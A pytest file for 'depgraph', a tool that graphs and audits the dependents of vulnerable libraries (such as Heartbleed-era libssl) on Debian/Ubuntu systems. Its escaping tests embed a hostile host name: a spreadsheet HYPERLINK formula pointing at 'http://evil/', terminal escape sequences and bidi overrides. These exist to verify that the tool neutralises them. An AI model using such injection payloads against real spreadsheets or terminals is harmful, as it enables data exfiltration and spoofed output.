"""Every ``--format`` of ``depgraph graph`` on a real 2014 system; golden files reviewed by reading."""

from __future__ import annotations

import io
import json
import shutil
from pathlib import Path

import networkx as nx
import pytest

from tests.conftest import REPO, run_depgraph, scenario, snapshot_tarball

STATUS = scenario("ubuntu-12.04.3-armhf") / "var/lib/dpkg/status"
GOLDEN = Path(__file__).parent / "golden"


def graph(fmt: str, *extra: str | Path) -> str:
    run = run_depgraph("graph", "libssl1.0.0", "--status", STATUS, "--format", fmt, *extra)
    assert run.status == 0, run.stderr
    assert run.stderr.startswith("depgraph: ") and " dependents of libssl1.0.0 in " in run.stderr
    return run.stdout


@pytest.mark.parametrize("fmt", ["tree", "table"])
def test_golden(fmt: str) -> None:
    expected = (GOLDEN / f"ubuntu-12.04.3-libssl1.0.0.{fmt}").read_text()
    assert graph(fmt) == expected


def test_names_are_the_json_dependents_nearest_first() -> None:
    document = json.loads(graph("json"))
    dependents = [n for n in document["nodes"] if n["depth"] > 0]
    assert graph("names").splitlines() == [n["package"] for n in dependents]
    depths = [n["depth"] for n in dependents]
    assert depths == sorted(depths)


def test_graphml_round_trips_through_networkx() -> None:
    document = json.loads(graph("json"))
    loaded = nx.read_graphml(io.BytesIO(graph("graphml").encode()))
    ends = {e["from"] for e in document["edges"]} | {e["to"] for e in document["edges"]}
    assert set(loaded.nodes) == {n["package"] for n in document["nodes"]} | ends
    virtual = {n for n, data in loaded.nodes(data=True) if data["virtual"]}
    assert virtual == {e["from"] for e in document["edges"] if e["kind"] == "Provides"}
    assert loaded.number_of_edges() == len(document["edges"])
    assert loaded.nodes["openssh-server"]["version"] == "1:5.9p1-5ubuntu1.1"


def test_dot_has_every_node_and_edge() -> None:
    document = json.loads(graph("json"))
    dot = graph("dot", "--expand")
    assert dot.startswith("digraph depgraph {") and dot.rstrip().endswith("}")
    for node in document["nodes"]:
        assert f'\n  "{node["package"]}" [shape=' in dot
    for edge in document["edges"]:  # drawn from what is needed, the arrow pointing back at it
        assert f'"{edge["to"]}" -> "{edge["from"]}" [dir="back"' in dot


def test_output_file(tmp_path: Path) -> None:
    target = tmp_path / "graph.json"
    run = run_depgraph("graph", "libssl1.0.0", "--status", STATUS, "--format", "json", "-o", target)
    assert run.status == 0 and run.stdout == ""
    assert json.loads(target.read_text())["targets"] == ["libssl1.0.0"]
    bad = run_depgraph("graph", "libssl1.0.0", "--status", STATUS, "-o", tmp_path / "no/such/dir/x")
    assert bad.status == 2 and "cannot write" in bad.stderr and bad.stderr.count("\n") == 1


def test_depth_option_and_its_validation() -> None:
    direct = graph("names", "--depth", "1").splitlines()
    assert len(direct) == 9 and "ssh" not in direct and "openssh-client" in direct
    run = run_depgraph("graph", "libssl1.0.0", "--status", STATUS, "--depth", "0")
    assert run.status == 2 and "--depth" in run.stderr


# The plan's restart step offline (issue 21, 4): a --root that is not this system or saved files.

AUDIT = Path(__file__).parent.parent / "fixtures/audit"
PRECISE_SERVER = AUDIT / "ubuntu-12.04-server/root"


def _actions(*args: str | Path) -> dict[str, dict[str, object]]:
    run = run_depgraph("audit", *args, "--format", "json", "--fail-on", "critical")
    assert run.status == 0, run.stderr
    actions = json.loads(run.stdout)["actions"]
    steps = [a["step"] for a in actions]
    assert steps.index("restart") == steps.index("upgrade") + 1, steps
    return {a["step"]: a for a in actions}


@pytest.mark.parametrize("pure", [True, False])
def test_an_offline_precise_server_is_restarted_with_upstart_after_the_upgrade(pure: bool) -> None:
    """No file list in the 2014 tree: the services come from the status file's Conffiles
    (openssh-server's /etc/init/ssh.conf and /etc/init.d/ssh) and from nginx-full's Provides
    httpd; upstart is installed, so the commands are 'service', not systemctl."""
    run = run_depgraph(
        "audit", "--root", PRECISE_SERVER, "--format", "json", "--fail-on", "critical", pure=pure
    )
    assert run.status == 0, run.stderr
    actions = {a["step"]: a for a in json.loads(run.stdout)["actions"]}
    restart = actions["restart"]
    assert {"nginx-full", "openssh-server"} <= set(restart["packages"])
    assert "service ssh restart" in restart["commands"]
    assert not any(c.startswith("systemctl") for c in restart["commands"])
    text = str(restart["text"])
    assert "or reboot" in text and "after the upgrade, or they load the vulnerable" in text
    assert "upstart (upstart is installed)" in text
    assert "nginx-full is named in the data: find its service by hand" in text
    assert "openssl" not in restart["packages"], "the command-line tool is not a daemon"


def test_a_tree_whose_init_is_systemd_gets_systemctl(tmp_path: Path) -> None:
    """The same tree with /sbin/init a link to systemd: what /sbin/init is wins over the package."""
    root = tmp_path / "root"
    shutil.copytree(PRECISE_SERVER, root, symlinks=True)
    (root / "sbin").mkdir()
    (root / "sbin/init").symlink_to("/lib/systemd/systemd")
    restart = _actions("--root", root)["restart"]
    assert "systemctl restart ssh.service" in restart["commands"]
    assert not any(c.startswith("service ") for c in restart["commands"])
    assert "systemd (/sbin/init is a link to /lib/systemd/systemd)" in str(restart["text"])


def test_saved_lists_without_a_service_still_get_a_restart_step() -> None:
    """A saved dpkg -l names no unit: the step says to restart what 'depgraph restart' lists on
    the host, or reboot, after the upgrade."""
    args = (AUDIT / "dpkg-list-only/args").read_text().split("\n")[:-1]
    restart = _actions(*args)["restart"]
    assert restart["commands"] == ["depgraph restart"]
    assert "or reboot" in str(restart["text"]) and "after the upgrade" in str(restart["text"])


# Sentences that must follow the input (issue 21, 8).


def _text_report(*args: str | Path) -> str:
    run = run_depgraph("audit", *args, "--fail-on", "critical")
    assert run.status == 0, run.stderr
    return " ".join(run.stdout.split())  # the table wraps its lines


def test_the_hint_names_the_library_an_ubuntu_9_04_system_has() -> None:
    """Ubuntu 9.04 has libssl0.9.8, not libssl1.0.0 nor libssl3: the hint says so, and no
    built-in profile names it, so the CVE is left to the user."""
    text = _text_report("--root", scenario("ubuntu-9.04-armel"))
    assert "None of libssl1.0.0 is installed" in text
    assert "This system has libssl0.9.8 instead" in text
    assert "depgraph audit --library libssl0.9.8 --cve CVE-ID" in text
    assert "libssl3" not in text and "CVE-2023-0286" not in text


def test_the_hint_points_to_the_profile_of_the_library_the_system_has() -> None:
    """This machine's own status file (saved) with the Heartbleed profile: its libssl3 has a
    built-in profile."""
    status = Path("/var/lib/dpkg/status")
    if "\nPackage: libssl3\n" not in status.read_text():
        pytest.skip("this machine has no libssl3")
    text = _text_report("--status", status)
    assert "This system has libssl3 instead; audit it with: depgraph audit --profile" in text
    assert "openssl-cve-2022-3602" in text


def test_a_library_of_an_other_family_gets_no_hint() -> None:
    """xz's liblzma5 is absent from Ubuntu 9.04 (it has no liblzma at all): no hint."""
    text = _text_report("--root", scenario("ubuntu-9.04-armel"), "--profile", "xz-backdoor")
    assert text.count("None of liblzma5 is installed: nothing here is exposed through it.") == 1
    assert "This system has" not in text and "--library" not in text


def test_an_architecture_less_dpkg_list_line_is_worded_without_none() -> None:
    """dpkg 1.15's dpkg -l has no Architecture column: 'nano 1.3.10-2 is installed', and an
    UNKNOWN decided by nothing is not 'by none'."""
    listing = Path(__file__).parent.parent / "fixtures/dpkg-list/dpkg-1.15-nano-excerpt.txt"
    text = _text_report("--dpkg-list", listing, "--library", "nano", "--cve", "CVE-2010-1160")
    assert "dpkg-status: nano 1.3.10-2 is installed" in text
    assert "None" not in text and "by none" not in text
    assert text.count("changelog: no files to read (saved lists)") == 1


def test_a_fixed_library_with_processes_not_looked_at_is_not_called_not_affected() -> None:
    """trusty-core: the fix is on disk but the plan says processes started before it may still
    run the old library, so the summary cannot say 'not affected'."""
    args = (AUDIT / "trusty-core/args").read_text().split("\n")[:-1]
    text = _text_report(*args)
    assert "processes started before the fix may still run it" in text
    assert "heartbleed: fixed on disk (running processes not looked at);" in text
    assert "not affected" not in text


def test_a_fixed_library_is_called_fixed_and_only_a_never_affected_one_not_affected(
    tmp_path: Path,
) -> None:
    """raspbian-wheezy's libssl1.0.0 had Heartbleed and has the backport: with the stale grep's
    maps showing the library mapped but no longer deleted, nothing runs the old code, and the
    summary says 'fixed' (it was affected before the upgrade), not 'not affected'. Ubuntu 9.04,
    without libssl1.0.0, was never affected: 'not affected'."""
    stale = (AUDIT / "raspbian-wheezy-stale/maps.txt").read_text(encoding="utf-8")
    maps = tmp_path / "maps.txt"
    maps.write_text(stale.replace(" (deleted)", ""), encoding="utf-8")
    text = _text_report("--root", scenario("raspbian-wheezy"), "--maps", maps)
    assert "library fixed-backport" in text and "fix in; nothing runs the old code" in text
    assert "heartbleed: fixed; highest risk none;" in text
    assert "not affected" not in text
    never = _text_report("--root", scenario("ubuntu-9.04-armel"))
    assert "heartbleed: not affected; highest risk none; library not-installed" in never


def test_the_summary_names_the_process_its_highest_risk_comes_from() -> None:
    """raspbian-wheezy-stale: every dependent is low, and the 'high' comes from pid 2214, whose
    package is unknown and whose old copy's version cannot be told: the summary says so instead
    of 'highest risk high' beside '11 low' alone."""
    args = (AUDIT / "raspbian-wheezy-stale/args").read_text().split("\n")[:-1]
    run = run_depgraph("audit", *args, "--format", "json")
    levels = {p["risk"]["level"] for p in json.loads(run.stdout)["packages"]}
    assert levels == {"low"}, levels
    text = _text_report(*args)
    assert "highest risk high;" in text
    assert (
        "11 dependents (11 low); 1 process outside the dependents maps an old copy (high)" in text
    )


def test_the_summary_counts_one_dependent_and_none_in_words() -> None:
    """The zynq board's libxmlrpc-core-c3 has one reverse dependency (cmake, through its
    Depends): '1 dependent (1 low)', not '1 dependents'; Ubuntu 9.04 without libssl1.0.0 has
    'no dependents', not '0 dependents (no dependents)'."""
    zynq = scenario("ubuntu-12.04-armhf-zynq")
    args = ("--library", "libxmlrpc-core-c3", "--cve", "CVE-2099-0001", "--fixed-version", "99")
    run = run_depgraph("audit", "--root", zynq, *args, "--format", "json")
    assert len(json.loads(run.stdout)["packages"]) == 1
    one = _text_report("--root", zynq, *args)
    assert "library vulnerable; 1 dependent (1 low)" in one and "1 dependents" not in one
    none = _text_report("--root", scenario("ubuntu-9.04-armel"))
    assert none.endswith("library not-installed; no dependents")


# --- text from the data, escaped (issue 23) --------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil/"&A1)\x1b]0;owned\x07\x1b[2J\nforged line|\u202e\x9b'
"""A host name or title as an attacker would write it: a spreadsheet formula, an OSC (window
title) and a CSI (clear screen), a newline, a Markdown cell end, a right-to-left override, a C1 CSI."""


def _hostile_snapshot(path: Path, host: str) -> None:
    """A ``depgraph-snapshot/1`` tarball of a 2014 tree's status whose manifest names ``host``."""
    root = scenario("ubuntu-14.04-core-armhf")
    snapshot_tarball(path, root, host, ["var/lib/dpkg/status"])


def _assert_inert(text: str) -> None:
    """No control character but the newline, no bidi override, no raw forged line."""
    for char in text:
        code = ord(char)
        assert char == "\n" or not (code < 0x20 or 0x7F <= code <= 0x9F), repr(char)
        assert not (0x202A <= code <= 0x202E or 0x2066 <= code <= 0x2069), repr(char)
    assert not any(line.startswith("forged line") for line in text.splitlines()), text


@pytest.mark.parametrize("fmt", ["table", "markdown", "csv"])
def test_fleet_escapes_a_snapshots_host_name(tmp_path: Path, fmt: str) -> None:
    snapshot = tmp_path / "host.tar.gz"
    _hostile_snapshot(snapshot, HOSTILE)
    done = run_depgraph("fleet", "--jobs", "1", "--no-cache", snapshot, "--format", fmt)
    assert done.status in (0, 1), done.stderr
    _assert_inert(done.stdout)
    assert "\\e]0;owned\\x07" in done.stdout, done.stdout
    if fmt == "csv":
        import csv

        rows = list(csv.reader(io.StringIO(done.stdout)))
        assert len(rows) == 2, rows  # the newline did not make a row
        assert rows[1][0].startswith("'=HYPERLINK("), rows[1][0]
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    if fmt == "markdown":
        assert "forged line\\|" in done.stdout, done.stdout


def test_fleet_prints_a_non_utf8_host_file_name_escaped(tmp_path: Path) -> None:
    """A host file whose name is not UTF-8 ended in ``internal error: UnicodeEncodeError``."""
    import os
    import shutil
    import subprocess
    import sys

    status = scenario("ubuntu-14.04-core-armhf") / "var/lib/dpkg/status"
    odd = os.fsencode(tmp_path) + b"/web\xff.status"
    shutil.copyfile(status, odd)
    environment = {k: v for k, v in os.environ.items() if k != "DEPGRAPH_DEBUG"}
    environment["XDG_CACHE_HOME"] = str(tmp_path / "cache")  # the cache's index keys it too
    for fmt in (b"table", b"csv", b"markdown", b"json"):
        done = subprocess.run(
            [
                sys.executable,
                b"-m",
                b"depgraph",
                b"fleet",
                b"--jobs",
                b"1",
                odd,
                b"--format",
                fmt,
                b"-o",
                os.fsencode(tmp_path) + b"/report\xff." + fmt,
            ],
            capture_output=True,
            env=environment,
            check=False,
        )
        assert done.returncode in (0, 1), done.stderr
        assert b"internal error" not in done.stderr, done.stderr
        written = (os.fsencode(tmp_path) + b"/report\xff." + fmt).decode("utf-8", "surrogateescape")
        report = Path(written).read_bytes()
        if fmt != b"json":
            assert b"web\\xff" in report, report


@pytest.mark.parametrize("fmt", ["table", "markdown", "csv"])
def test_audit_escapes_a_snapshots_host_name(tmp_path: Path, fmt: str) -> None:
    """The audit's title names the snapshot's host, as its manifest says (a profile's strings
    are refused with control characters by the profile schema; a host name is not checked)."""
    snapshot = tmp_path / "host.tar.gz"
    _hostile_snapshot(snapshot, HOSTILE)
    done = run_depgraph("audit", "--snapshot", snapshot, "--format", fmt)
    assert done.status in (0, 1), done.stderr
    _assert_inert(done.stdout)
    if fmt != "csv":  # CSV has the dependents only
        assert "\\e]0;owned\\x07\\e[2J\\nforged line" in done.stdout, done.stdout


def test_restart_escapes_a_saved_maps_path(tmp_path: Path) -> None:
    """A deleted library's path in saved maps text with an OSC and a bidi override in it."""
    saved = REPO / "fixtures/audit/raspbian-wheezy-stale/maps.txt"
    odd = "libssl.so.1.0.0\x1b]0;owned\x07\u202e"
    maps = tmp_path / "maps.txt"
    maps.write_text(saved.read_text().replace("libssl.so.1.0.0", odd))
    root = scenario("raspbian-wheezy")
    done = run_depgraph("restart", "--root", root, "--maps", maps)
    assert done.status == 1, done.stderr
    _assert_inert(done.stdout)
    assert "libssl.so.1.0.0\\e]0;owned\\x07\\u202e" in done.stdout, done.stdout


def test_changelog_escapes_the_quoted_entry(tmp_path: Path) -> None:
    """A changelog whose entry naming the CVE carries terminal escapes."""
    changelog = tmp_path / "changelog"
    changelog.write_text(
        "openssl (1.0.1-4ubuntu5.12) trusty-security; urgency=medium\n\n"
        "  * SECURITY UPDATE: CVE-2014-0160 \x1b]0;owned\x07 heartbeat \u202eoverrun\n\n"
        " -- Marc Deslauriers <marc@example.com>  Mon, 07 Apr 2014 15:45:14 -0400\n"
    )
    done = run_depgraph("changelog", "--file", changelog, "--cve", "CVE-2014-0160")
    assert done.status == 0, done.stderr
    _assert_inert(done.stdout)
    assert "\\e]0;owned\\x07" in done.stdout, done.stdout


def test_escape_functions() -> None:
    """formats/escape.py on its own: what each function keeps and what it escapes."""
    from depgraph.formats import escape

    assert escape.terminal("a\nb\tc\r\x1b[31m\x00\x7f\x9b\u202e\u2066\udcff é") == (
        "a\\nb\\tc\\r\\e[31m\\x00\\x7f\\x9b\\u202e\\u2066\\xff é"
    )
    assert escape.block("a\nb\x1b") == "a\nb\\e"
    # the bidi marks a profile refuses are escaped in a report too (one list: escape.UNPRINTABLE)
    assert escape.terminal("\u200fRLM\u200eLRM\u061cALM") == "\\u200fRLM\\u200eLRM\\u061cALM"
    assert escape.csv_row(("=1", 2, "ok")) == ["'=1", 2, "ok"]
    assert escape.markdown_cell("a|b\n") == "a\\|b\\n"
    for formula in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert escape.csv_cell(formula).startswith("'"), formula
    assert escape.csv_cell("libssl1.0.0") == "libssl1.0.0"
    line = escape.error_line("x" * 100_000 + " " + "y\n" * 3)
    assert len(line) < 300 and "99800 more characters" in line and "y\\ny\\ny\\n" in line
    assert len(escape.error_line(" ".join(["z" * 150] * 100))) < escape.MAX_LINE + 40


def test_a_non_utf8_status_name_in_every_format(tmp_path: Path) -> None:
    """``--status`` whose name is not UTF-8: the report names it escaped in every format (JSON's
    ``\\udcff`` escape, ``\\xff`` in text), where JSON, HTML and OpenVEX ended in an internal error."""
    import os
    import shutil
    import subprocess
    import sys

    odd = os.fsencode(tmp_path) + b"/status\xff"
    shutil.copyfile(STATUS, odd)
    environment = {k: v for k, v in os.environ.items() if k != "DEPGRAPH_DEBUG"}
    audit = ["table", "json", "csv", "markdown", "html", "openvex"]
    graphs = ["tree", "table", "json", "names", "dot", "graphml"]
    for command, formats in (([b"audit"], audit), ([b"graph", b"libssl1.0.0"], graphs)):
        for fmt in formats:
            done = subprocess.run(
                [
                    sys.executable,
                    b"-m",
                    b"depgraph",
                    *command,
                    b"--status",
                    odd,
                    b"--format",
                    fmt.encode(),
                ],
                capture_output=True,
                env=environment,
                check=False,
            )
            assert done.returncode in (0, 1), (command, fmt, done.stderr)
            assert b"internal error" not in done.stderr, done.stderr
            done.stdout.decode("utf-8")  # valid UTF-8, whatever the name
            if fmt == "json" and command == [b"audit"]:
                assert json.loads(done.stdout)["source"]["description"].endswith("status\udcff")


def test_audit_json_keeps_a_hostile_host_name_exact_and_inert(tmp_path: Path) -> None:
    """JSON keeps the host name as it is, with C1 and bidi characters written as ``\\uXXXX``: the
    same value for a program, nothing live for a terminal that shows the file."""
    snapshot = tmp_path / "host.tar.gz"
    _hostile_snapshot(snapshot, HOSTILE)
    done = run_depgraph("audit", "--snapshot", snapshot, "--format", "json")
    assert done.status in (0, 1), done.stderr
    _assert_inert(done.stdout)
    assert HOSTILE in json.loads(done.stdout)["source"]["description"]
